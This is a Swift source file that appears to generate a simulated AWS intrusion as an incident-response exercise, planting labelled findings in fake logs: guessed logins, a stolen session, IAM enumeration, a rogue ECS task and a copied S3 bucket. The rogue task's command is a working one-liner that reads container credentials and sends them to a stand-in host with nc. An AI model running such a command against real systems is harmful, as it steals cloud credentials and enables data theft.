/// What the responders of the sample have to find.
struct StolenAccess {
  /// The runner's session, opened with a stolen token.
  var login: Credential
  /// The task that the attacker started.
  var task: RunningTask
  /// Its credentials, taken out of AWS.
  var credential: Credential
  /// Its task definition.
  var definition: String
}

extension SampleIncident {
  private static let guesser = Origin("203.0.113.77", .attackerShell)
  private static let exfiltration = Origin("203.0.113.80", .attackerShell)
  static let late = Origin("203.0.113.81", .attackerShell)

  /// From the first guess to the copied bucket.
  mutating func attack() -> StolenAccess {
    let login = scenario.planting("F07", on: production, "Guesses, then a login from there") {
      [production] scenario in
      Self.guess(production, in: &scenario)
      return Self.breakIn(production, in: &scenario)
    }
    let loginEvent = [login.issuingEventID]
    scenario.mark("F05", on: production, "A session name the runner never uses", events: loginEvent)
    scenario.mark("F09", on: production, "A session of four hours", events: loginEvent)
    lookAround(with: login)
    let (task, definition) = startRogueTask(with: login)
    scenario.createNetworkInterface(for: task, at: "2026-04-14T09:38:46Z")
    let credentials = scenario.taskCredentials(task, at: "2026-04-14T09:38:49Z")
    scenario.startContainer(task, with: credentials.execution, at: "2026-04-14T09:38:52Z")
    copyBucket(with: credentials.task)
    return StolenAccess(
      login: login, task: task, credential: credentials.task, definition: definition)
  }

  private static func guess(_ runner: RunnerModel, in scenario: inout Scenario) {
    let subjects = [
      "initech+prod-runner", "initech+production", "initech+acme", "initech+acme+prod-runner",
      "initech+prod", "initech+runner",
    ]
    scenario.planting("F06", on: runner, "Guessed subjects from one address") { scenario in
      for (number, subject) in subjects.enumerated() {
        scenario.failedLogin(
          runner, subject: subject, at: ("2026-04-14T09:12:04Z" as Timestamp) + number * 41,
          from: guesser)
      }
    }
    scenario.failedLogin(runner, .invalidToken, at: "2026-04-14T09:17:20Z", from: guesser)
    scenario.failedLogin(runner, .expiredToken, at: "2026-04-14T09:24:51Z", from: guesser)
  }

  private static func breakIn(_ runner: RunnerModel, in scenario: inout Scenario) -> Credential {
    scenario.planting("F04", on: runner, "A login from an address never seen before") { scenario in
      scenario.login(
        runner, at: "2026-04-14T09:31:20Z", from: guesser, lifetime: 14_400,
        sessionName: "botocore-session-1776159080")
    }
  }

  private mutating func lookAround(with login: Credential) {
    let attacker = Caller(login, from: Self.guesser)
    let place = place
    scenario.planting("S06", on: production, "GetCallerIdentity, which the runner never needs") {
      _ = $0.getCallerIdentity(by: attacker, at: "2026-04-14T09:31:58Z", in: place)
    }
    scenario.listTasks(of: production, by: attacker, at: "2026-04-14T09:32:31Z")
    scenario.denied(
      "ListClusters", of: "ecs", on: "*", by: attacker, at: "2026-04-14T09:32:40Z", in: place)
    scenario.planting("I09", on: production, "Enumeration of roles and users") { scenario in
      for (number, name) in ["ListRoles", "ListUsers", "GetAccountAuthorizationDetails"]
        .enumerated()
      {
        scenario.denied(
          name, of: "iam", on: "arn:aws:iam::\(place.account.id):*", by: attacker,
          at: ("2026-04-14T09:33:05Z" as Timestamp) + number * 9, in: place.global)
      }
    }
  }

  private mutating func startRogueTask(with login: Credential) -> (RunningTask, String) {
    let attacker = Caller(login, from: Self.guesser)
    let image = "docker.io/initech/netshoot:latest"
    let command = [
      "sh", "-c",
      "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.77 443",
    ]
    let production = production
    let definition = scenario.planting("E01", on: production, "A foreign image") {
      $0.planting("E18", on: production, "A task definition without logs") {
        $0.registerTaskDefinition(
          production, image: image, command: command, logs: false, by: attacker,
          at: "2026-04-14T09:36:12Z")
      }
    }
    scenario.planting("I08", on: production, "A try to hand a stronger role to the task") {
      _ = $0.denied(
        "RunTask", of: "ecs", action: "iam:PassRole",
        on: "arn:aws:iam::111122223333:role/admin-automation", by: attacker,
        at: "2026-04-14T09:37:30Z", in: production.place)
    }
    var request = TaskRequest()
    (request.definition, request.image, request.command) = (definition, image, command)
    request.hasPublicAddress = true
    let rogue = request
    let tasks = scenario.planting("E02", on: production, "A command that steals credentials") {
      $0.planting("E05", on: production, "A task with a public address") {
        $0.runTask(production, rogue, by: attacker, at: "2026-04-14T09:38:40Z")
      }
    }
    return (tasks[0], definition)
  }

  private mutating func copyBucket(with credential: Credential) {
    let (production, place) = (production, place)
    guard let bucket = production.tasks?.bucket else { return }
    let thief = Caller(credential, from: Self.exfiltration)
    scenario.planting("S01", on: production, "Credentials of a task outside AWS") { scenario in
      scenario.getCallerIdentity(by: thief, at: "2026-04-14T09:44:10Z", in: place)
      scenario.planting("D02", on: production, "The whole bucket listed") {
        _ = $0.listObjects(in: bucket, by: thief, at: "2026-04-14T09:44:52Z")
      }
      scenario.planting("D01", on: production, "The bucket copied") { scenario in
        for number in 0..<24 {
          scenario.getObject(
            "environments/\(number / 4)f3a9c1e/module-\(number % 4).zip", in: bucket,
            size: 2_400_000 + number * 731_113, by: thief,
            at: ("2026-04-14T09:46:00Z" as Timestamp) + number * 11)
        }
      }
      scenario.planting("I05", on: production, "A try to make a user") {
        _ = $0.denied(
          "CreateUser", of: "iam", on: "arn:aws:iam::111122223333:user/support-agent", by: thief,
          at: "2026-04-14T09:53:37Z", in: place.global)
      }
    }
  }
}
